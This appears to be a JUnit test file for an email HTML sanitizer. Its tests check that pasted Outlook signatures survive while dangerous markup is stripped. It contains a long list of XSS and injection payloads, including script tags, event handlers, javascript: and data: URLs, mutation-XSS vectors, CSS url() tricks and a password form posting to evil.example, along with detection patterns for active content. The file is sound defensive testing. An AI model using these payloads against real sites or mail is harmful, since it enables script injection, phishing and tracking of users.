package de.mat.html;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlSanitizerTest {

    private static final String PIXEL =
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

    private static final Set<String> ACTIVE_ELEMENTS = Set.of(
            "script",
            "style",
            "iframe",
            "frame",
            "frameset",
            "object",
            "embed",
            "applet",
            "form",
            "input",
            "button",
            "textarea",
            "select",
            "svg",
            "math",
            "link",
            "meta",
            "base",
            "template",
            "noscript",
            "video",
            "audio",
            "source",
            "track",
            "portal",
            "xmp",
            "plaintext",
            "title",
            "marquee",
            "bgsound",
            "isindex");

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://a.example/x.png\" onload=\"alert(1)\">",
                "<img src='x`onerror=alert(1)`'>",
                "<img/src='https://a.example/'/onerror=alert(1)>",
                "<img \u0000src=x onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"//evil.example/\">x</a>",
                "<a href=\"/admin/account.xhtml\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"https://evil.example/x.swf\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<form action=\"https://evil.example/\"><input name=password type=password><button>OK</button></form>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>body{background:url(https://evil.example/x)}</style>",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
                "<base href=\"https://evil.example/\">",
                "<p style=\"background:url(https://evil.example/x)\">x</p>",
                "<p style=\"background-image:url('https://evil.example/x')\">x</p>",
                "<p style=\"background-color:red;background-image:\\75rl(https://evil.example/x)\">x</p>",
                "<p style=\"list-style-image:url(https://evil.example/x)\">x</p>",
                "<p style=\"width:expression(alert(1))\">x</p>",
                "<p style=\"behavior:url(x.htc);-moz-binding:url(x.xml)\">x</p>",
                "<p style=\"color:red;position:fixed;top:0;left:0;z-index:9999;width:100%\">x</p>",
                "<p style=\"position:/**/absolute\">x</p>",
                "<p style='font-family:\"x;position:fixed\";color:red'>x</p>",
                "<table background=\"https://evil.example/x\"><tr><td background=\"https://evil.example/y\">x</td></tr></table>",
                "<video src=\"https://evil.example/x\" poster=\"https://evil.example/y\"></video>",
                "<img srcset=\"https://evil.example/x 2x\">",
                "<img src=\"http://evil.example/x.png\">",
                "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
                "<img src=\"data:image/png,%3Cscript%3E\">",
                "<img src=\"data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)\">",
                "<template><script>alert(1)</script></template>",
                "<plaintext><script>alert(1)</script>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                "<div onmouseover=\"alert(1)\" id=x name=getElementById class=ui-dialog>x</div>",
                "<button onclick=alert(1)>x</button>",
                "<select><noembed></select><script>alert(1)</script></noembed>",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<p title=\"</p><script>alert(1)</script>\">x</p>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void letsNothingActiveThrough(String attack) {
        assertHarmless(HtmlSanitizer.outgoing(attack));
        assertHarmless(incoming(attack));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void loadsNothingAndStylesNothingFromStrangers(String attack) {
        Document document =
                Jsoup.parse(incoming(attack + "<img src=\"https://evil.example/pixel.gif\"><img src=\"cid:a@b\">"));

        assertTrue(
                document.select(
                                "img[src^=http], img[src^=cid], [style], [class], [id], [href], a, form, svg, math, style")
                        .isEmpty(),
                document.html());
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void staysHarmlessWhenSanitisedAgain(String attack) {
        String twice = HtmlSanitizer.outgoing(HtmlSanitizer.outgoing(attack));

        assertHarmless(twice);
        assertEquals(twice, HtmlSanitizer.outgoing(twice));
    }

    @Test
    void keepsAPastedOutlookSignature() throws IOException {
        Document signature = Jsoup.parse(HtmlSanitizer.outgoing(resource("/html/outlook-signature.html")));

        assertEquals(
                1,
                signature
                        .select("table[cellpadding=0] td[width=160][valign=top]")
                        .size());
        assertEquals(
                PIXEL,
                signature
                        .select("td img[width=120][alt='Muster Maschinen GmbH']")
                        .attr("src"));
        assertEquals(
                List.of(
                        "tel:+493023125000",
                        "mailto:beispiel@muster-maschinen.example",
                        "https://www.muster-maschinen.example/lager"),
                signature.select("a").eachAttr("href"));
        assertEquals(2, signature.select("ul > li").size());
        assertStyled(signature, "table", "border-collapse:collapse");
        assertStyled(signature, "td[width=160]", "border-right:solid #c00000 1.5pt");
        assertStyled(signature, "td[width=160]", "padding:0cm 5.4pt 0cm 5.4pt");
        assertStyled(signature, "td[width=160]", "width:120pt");
        assertStyled(signature, "b span", "font-size:10pt");
        assertStyled(signature, "b span", "font-family:'arial' , sans-serif");
        assertStyled(signature, "b span", "color:#c00000");
        assertStyled(signature, "b span", "letter-spacing:0.5pt");
        assertStyled(signature, "p[style*=line-height]", "line-height:115%");
        assertStyled(signature, "p[style*=justify]", "text-align:justify");
        assertFalse(signature.html().contains("mso-"), signature.html());
        assertFalse(signature.html().contains("MsoNormal"));
    }

    @Test
    void readsTheSignatureAsText() throws IOException {
        assertEquals(
                """
                Mit freundlichen Grüßen

                Erika Beispiel
                Vertrieb Gebrauchtmaschinen

                Tel. 030 23125 000 (tel:+493023125000) | beispiel@muster-maschinen.example
                Unser Lager (https://www.muster-maschinen.example/lager)

                Muster Maschinen GmbH · Musterstraße 1 · 10115 Berlin · Amtsgericht Charlottenburg HRB 000000 B · Geschäftsführerin: Erika Beispiel

                - Ankauf
                - Verkauf""",
                FormattedText.formatted(resource("/html/outlook-signature.html"))
                        .text());
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://www.example.com/logo.png", PIXEL, "cid:image001.png@01D1.2C3"})
    void keepsPicturesThatMailCanCarry(String source) {
        assertEquals(
                source,
                Jsoup.parse(HtmlSanitizer.outgoing("<img src=\"" + source + "\">"))
                        .select("img")
                        .attr("src"));
    }

    @Test
    void keepsInlinePicturesOfStrangersOnly() {
        assertEquals(
                PIXEL,
                Jsoup.parse(incoming("<img src=\"" + PIXEL + "\">"))
                        .select("img")
                        .attr("src"));
    }

    @Test
    void showsThePicturesThatCameWithTheHtml() {
        Document shown = Jsoup.parse(HtmlSanitizer.incoming(
                "<img src=\"cid:image001.png@01D1.2C3\"><img src=\"cid:gone\"><img src=\"CID:evil\"><img src=\"cid:large\">",
                id -> switch (id) {
                    case "image001.png@01D1.2C3" -> Optional.of(PIXEL);
                    case "evil" -> Optional.of("https://evil.example/pixel.gif");
                    case "large" ->
                        Optional.of("data:image/png;base64," + "A".repeat(HtmlSanitizer.LARGEST_INLINE_IMAGE));
                    default -> Optional.empty();
                }));

        assertEquals(List.of(PIXEL), shown.select("img[src]").eachAttr("src"));
    }

    @Test
    void tellsWhereALinkOfAStrangerLeadsButDoesNotLead() {
        assertEquals(
                "<u title=\"https://evil.example/?a&#61;1&amp;b&#61;2\">Klicken <b>Sie</b></u> <u title=\"\">hier</u>",
                incoming(
                        "<a href=\"https://evil.example/?a=1&amp;b=2\" title=\"harmlos\" target=_top>Klicken <b>Sie</b></a>"
                                + " <a href=\"javascript:alert(1)\">hier</a>"));
    }

    @Test
    void leavesAPictureAboveTheLimitOut() {
        String fitting = "data:image/png;base64," + "A".repeat(HtmlSanitizer.LARGEST_INLINE_IMAGE - 22);

        assertEquals(
                1,
                Jsoup.parse(HtmlSanitizer.outgoing("<img src=\"" + fitting + "\">"))
                        .select("img[src]")
                        .size());
        assertEquals(
                0,
                Jsoup.parse(HtmlSanitizer.outgoing("<img src=\"" + fitting + "A\">"))
                        .select("img[src]")
                        .size());
    }

    @Test
    void keepsTextThatLooksLikeHtml() {
        assertEquals("5 &lt; 6 &amp; 7 &gt; 3 – Größe €", HtmlSanitizer.outgoing("5 &lt; 6 &amp; 7 &gt; 3 – Größe €"));
    }

    @Test
    void endsOnDeeplyNestedHtml() {
        assertHarmless(incoming("<div>".repeat(50_000) + "x"));
        assertHarmless(HtmlSanitizer.outgoing("<table><tr><td>".repeat(10_000) + "<script>"));
    }

    private static String incoming(String html) {
        return HtmlSanitizer.incoming(html, id -> Optional.empty());
    }

    private static void assertStyled(Document document, String selector, String declaration) {
        Element element = document.selectFirst(selector);
        assertTrue(
                element != null
                        && element.attr("style").toLowerCase(Locale.ROOT).contains(declaration),
                () -> declaration + " in " + element);
    }

    private static void assertHarmless(String html) {
        for (Element element : Jsoup.parse(html).body().getAllElements()) {
            assertFalse(ACTIVE_ELEMENTS.contains(element.normalName()), html);
            for (Attribute attribute : element.attributes()) {
                String value = attribute.getValue().toLowerCase(Locale.ROOT);
                assertFalse(attribute.getKey().startsWith("on"), html);
                assertFalse(
                        Set.of("id", "name", "class", "srcdoc", "srcset", "background", "action")
                                .contains(attribute.getKey()),
                        html);
                switch (attribute.getKey()) {
                    case "href" -> assertTrue(value.matches("(https?://|mailto:|tel:).*"), html);
                    case "src" ->
                        assertTrue(value.matches("(https://|cid:|data:image/(png|jpeg|gif);base64,).*"), html);
                    case "style" ->
                        assertFalse(
                                value.matches("(?s).*(url\\(|position:|expression|behavior|binding|z-index|@|\\\\).*"),
                                html);
                    default -> {
                        // text, colour or number
                    }
                }
            }
        }
    }

    private static String resource(String name) throws IOException {
        try (InputStream in = HtmlSanitizerTest.class.getResourceAsStream(name)) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
